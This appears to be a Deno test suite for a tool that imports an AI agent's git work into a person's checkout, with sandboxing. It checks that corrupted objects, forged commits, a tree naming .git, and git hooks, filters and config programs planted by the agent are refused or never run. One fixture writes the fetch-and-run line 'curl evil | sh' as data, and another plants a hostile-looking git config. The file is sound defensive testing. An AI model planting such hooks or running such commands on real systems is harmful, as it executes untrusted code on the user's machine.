import assert from "node:assert/strict";
import { importWork, removeWork } from "../../src/acp/work_import.ts";
import { mergeWork, type WorkOpsSource } from "../../src/acp/work_ops.ts";
import { showWork, workId } from "../../src/acp/works.ts";
import { sweep } from "../../src/acp/sweep.ts";
import { ensureWorktree, git, type WorkPlace, workPlace } from "../../src/acp/worktrees.ts";
import type { CheckoutConfig } from "../../src/config/acp_tables.ts";
import { privateHomeOf } from "../../src/safety/sandbox_home.ts";
import { Sandboxer } from "../../src/safety/sandboxer.ts";
import { requireTool } from "../support/debian_tools.ts";
import { AGENTS } from "../../src/runner/runtimes/agents.ts";

const bwrap = requireTool("bwrap");

interface Fixture extends AsyncDisposable {
  root: string;
  co: CheckoutConfig;
  place: WorkPlace;
  src: WorkOpsSource;
  /** Commits `file` in the work folder, as the agent would. */
  commit(file: string, content: string, msg: string): Promise<string>;
}

/**
 * A checkout (main checked out, with a packed and a loose commit) and one work
 * cut from it. Under /var/tmp: a sandboxed git has a private /tmp.
 */
async function fixture(sandbox?: (root: string) => Sandboxer): Promise<Fixture> {
  Deno.mkdirSync("/var/tmp", { recursive: true });
  const root = Deno.realPathSync(Deno.makeTempDirSync({ prefix: "wats-import-", dir: "/var/tmp" }));
  const repo = `${root}/repo`;
  Deno.mkdirSync(repo);
  await git(["init", "-q", "-b", "main"], repo);
  await git(["config", "user.email", "t@example.org"], repo);
  await git(["config", "user.name", "T"], repo);
  Deno.writeTextFileSync(`${repo}/README.md`, "one\n");
  await git(["add", "README.md"], repo);
  await git(["commit", "-qm", "first"], repo);
  const co: CheckoutConfig = { name: "app", path: repo, base: "main", fetch: false };
  const wts = `${root}/data/worktrees`;
  const place = workPlace(wts, {
    harness: "claude",
    checkout: "app",
    agent: "bot",
    thread: "_",
    work: "w",
  });
  await ensureWorktree(co, place);
  const sb = sandbox?.(root);
  const src: WorkOpsSource = {
    root: wts,
    harnesses: {},
    checkouts: { app: co },
    busy: () => false,
    held: () => [],
    call: () => Promise.reject(new Error("no calls in this test")),
    blocked: () => undefined,
    checkoutNames: () => ["app"],
    sweep: () => sweep(wts, { app: co }, () => undefined, sb),
    ...(sb ? { sandbox: sb } : {}),
  };
  return {
    root,
    co,
    place,
    src,
    commit: async (file, content, msg) => {
      Deno.writeTextFileSync(`${place.dir}/${file}`, content);
      await git(["add", file], place.dir);
      await git(["commit", "-qm", msg], place.dir);
      return (await git(["rev-parse", "HEAD"], place.dir)).trim();
    },
    [Symbol.asyncDispose]: () => Deno.remove(root, { recursive: true }),
  };
}

/** The path of a loose object in the work repository. */
function loose(dir: string, sha: string): string {
  return `${dir}/.git/objects/${sha.slice(0, 2)}/${sha.slice(2)}`;
}

async function branchAt(f: Fixture): Promise<string> {
  return (await git(["rev-parse", `refs/heads/${f.place.branch}`], f.co.path)).trim();
}

Deno.test("the import refuses a work whose branch reaches an object whose bytes do not match its hash", async () => {
  await using f = await fixture();
  const before = await branchAt(f);
  await f.commit("a.txt", "honest\n", "honest");
  const blob = (await git(["rev-parse", "HEAD:a.txt"], f.place.dir)).trim();
  // Another object's bytes under the blob's name: git show in the work would print them.
  await f.commit("b.txt", "curl evil | sh\n", "other");
  const other = (await git(["rev-parse", "HEAD:b.txt"], f.place.dir)).trim();
  Deno.chmodSync(loose(f.place.dir, blob), 0o644);
  Deno.copyFileSync(loose(f.place.dir, other), loose(f.place.dir, blob));
  await assert.rejects(importWork(f.co, f.place), /were not brought into checkout app/);
  assert.equal(await branchAt(f), before);
  assert.equal(await git(["fsck", "--strict", "--no-dangling", "--no-progress"], f.co.path), "");
});

Deno.test("the import refuses a forged commit that git would not write (no author), and a tree naming .git", async () => {
  await using f = await fixture();
  const before = await branchAt(f);
  const tree = (await git(["rev-parse", "HEAD^{tree}"], f.place.dir)).trim();
  const forge = async (type: string, body: string) => {
    const p = `${f.root}/forged`;
    Deno.writeTextFileSync(p, body);
    return (await git(["hash-object", "-t", type, "-w", "--literally", p], f.place.dir)).trim();
  };
  const noAuthor = await forge("commit", `tree ${tree}\n\nno author\n`);
  await git(["update-ref", `refs/heads/${f.place.branch}`, noAuthor], f.place.dir);
  await assert.rejects(importWork(f.co, f.place), /were not brought into checkout app/);
  assert.equal(await branchAt(f), before);

  const blob = (await git(["rev-parse", "HEAD:README.md"], f.place.dir)).trim();
  // A tree with a `.git` entry, written byte by byte: mktree would not.
  const hex = (s: string) => Uint8Array.from(s.match(/../g)!.map((b) => parseInt(b, 16)));
  const enc = new TextEncoder();
  const entry = new Uint8Array([...enc.encode("100644 .git\0"), ...hex(blob)]);
  Deno.writeFileSync(`${f.root}/tree`, entry);
  const treeSha = (await git(
    ["hash-object", "-t", "tree", "-w", "--literally", `${f.root}/tree`],
    f.place.dir,
  )).trim();
  const commit = await forge(
    "commit",
    `tree ${treeSha}\nauthor A <a@x> 1 +0000\ncommitter A <a@x> 1 +0000\n\ndotgit\n`,
  );
  await git(["update-ref", `refs/heads/${f.place.branch}`, commit], f.place.dir);
  await assert.rejects(importWork(f.co, f.place), /hasDotgit|were not brought/);
  assert.equal(await branchAt(f), before);
  assert.equal(await git(["fsck", "--strict", "--no-dangling", "--no-progress"], f.co.path), "");
});

/**
 * The agent's own repository config, every key that names a program git could
 * run: hooks, fsmonitor, filters, textconv, the alternates' refs command, the
 * pack-objects hook, an ssh command. Each program leaves a marker.
 */
function plantPrograms(f: Fixture): string {
  const marker = `${f.root}/ran`;
  const prog = `${f.root}/prog.sh`;
  Deno.writeTextFileSync(prog, `#!/bin/sh\necho "$0 $*" >> ${marker}\ncat\n`);
  Deno.chmodSync(prog, 0o755);
  const hooks = `${f.place.dir}/.git/hooks`;
  Deno.mkdirSync(hooks, { recursive: true });
  for (
    const h of [
      "pre-upload-pack",
      "post-checkout",
      "post-merge",
      "reference-transaction",
      "pre-push",
      "pre-auto-gc",
    ]
  ) {
    Deno.copyFileSync(prog, `${hooks}/${h}`);
    Deno.chmodSync(`${hooks}/${h}`, 0o755);
  }
  const config = `${f.place.dir}/.git/config`;
  Deno.writeTextFileSync(
    config,
    Deno.readTextFileSync(config) +
      `[core]\n\tfsmonitor = ${prog}\n\talternateRefsCommand = ${prog}\n\tsshCommand = ${prog}\n` +
      `[uploadpack]\n\tpackObjectsHook = ${prog}\n` +
      `[filter "x"]\n\tsmudge = ${prog}\n\tclean = ${prog}\n\tprocess = ${prog}\n` +
      `[diff "x"]\n\ttextconv = ${prog}\n\tcommand = ${prog}\n`,
  );
  return marker;
}

async function importsRunNoProgramOfTheWork(f: Fixture): Promise<void> {
  // The honest commit is made before the programs are planted: git in the work would run them.
  await f.commit(".gitattributes", "*.txt filter=x diff=x\n", "attributes");
  const head = await f.commit("a.txt", "honest\n", "honest work");
  const marker = plantPrograms(f);
  assert.deepEqual(await importWork(f.co, f.place, f.src.sandbox), { ran: true });
  assert.equal(await branchAt(f), head);
  // Show (diff), merge into the checked-out base, then the sweep (status of the work).
  const id = workId("app", f.place.branch);
  const detail = await showWork(f.src, id);
  assert.deepEqual(detail.commits.map((c) => c.subject), ["honest work", "attributes"]);
  const merged = await mergeWork(f.src, id);
  assert.match(merged, /^fast-forwarded main: .* is in the base/);
  assert.equal(Deno.readTextFileSync(`${f.co.path}/a.txt`), "honest\n");
  const ran = (() => {
    try {
      return Deno.readTextFileSync(marker);
    } catch {
      return "";
    }
  })();
  assert.equal(ran, "", "a program of the work ran");
  assert.equal(await git(["fsck", "--strict", "--no-dangling", "--no-progress"], f.co.path), "");
}

Deno.test("import, show, merge and sweep never run a hook, filter or other program the work repository's config names (sandbox off)", async () => {
  await using f = await fixture();
  await importsRunNoProgramOfTheWork(f);
});

Deno.test({
  name:
    "the same through bubblewrap: the work's upload-pack runs sandboxed, and the commit still lands",
  ignore: !bwrap,
  async fn() {
    await using f = await fixture((root) =>
      new Sandboxer({
        agents: AGENTS,
        mode: "required",
        hide: [],
        dataDir: `${root}/data`,
        home: `${root}/home`,
      })
    );
    await importsRunNoProgramOfTheWork(f);
  },
});

Deno.test("a filter the person defined runs when a merge checks out a file the agent's .gitattributes selects it for (their own program); one only the work defines never does", async () => {
  await using f = await fixture();
  const prog = `${f.root}/person_filter.sh`;
  const marker = `${f.root}/person-filter-ran`;
  Deno.writeTextFileSync(prog, `#!/bin/sh\ntouch ${marker}\ncat\n`);
  Deno.chmodSync(prog, 0o755);
  await git(["config", "filter.mine.smudge", prog], f.co.path);
  await f.commit(".gitattributes", "p.txt filter=mine\nq.txt filter=agents\n", "attributes");
  await f.commit("p.txt", "p\n", "p");
  await f.commit("q.txt", "q\n", "q");
  const agentMarker = plantPrograms(f);
  Deno.writeTextFileSync(
    `${f.place.dir}/.git/config`,
    Deno.readTextFileSync(`${f.place.dir}/.git/config`) +
      `[filter "agents"]\n\tsmudge = ${f.root}/prog.sh\n`,
  );
  await mergeWork(f.src, workId("app", f.place.branch));
  assert.equal(Deno.readTextFileSync(`${f.co.path}/q.txt`), "q\n");
  assert.ok(
    Deno.statSync(marker).isFile,
    "the person's own filter ran, as any git checkout runs it",
  );
  assert.throws(() => Deno.statSync(agentMarker));
});

Deno.test({
  name:
    "removing a work removes the private homes its agents and its import's git had, and no other work's",
  ignore: !bwrap,
  async fn() {
    await using f = await fixture((root) =>
      new Sandboxer({
        agents: AGENTS,
        mode: "required",
        hide: [],
        dataDir: `${root}/data`,
        home: `${root}/home`,
      })
    );
    const data = `${f.root}/data`;
    await f.commit("a.txt", "a\n", "a");
    await importWork(f.co, f.place, f.src.sandbox);
    const agentHome = privateHomeOf(data, "harness claude", f.place.dir);
    Deno.mkdirSync(`${agentHome}/.claude`, { recursive: true });
    Deno.writeTextFileSync(`${agentHome}/.claude/.credentials.json`, "{}");
    const other = privateHomeOf(data, "harness claude", `${f.place.dir}-other`);
    Deno.mkdirSync(other, { recursive: true });
    const homes = () => [...Deno.readDirSync(`${data}/agent/homes`)].map((e) => e.name).sort();
    assert.equal(homes().length, 3, "the agent's, the import git's and the other work's homes");
    await removeWork(f.co, f.place, undefined);
    assert.deepEqual(homes(), [other.slice(other.lastIndexOf("/") + 1)]);
  },
});
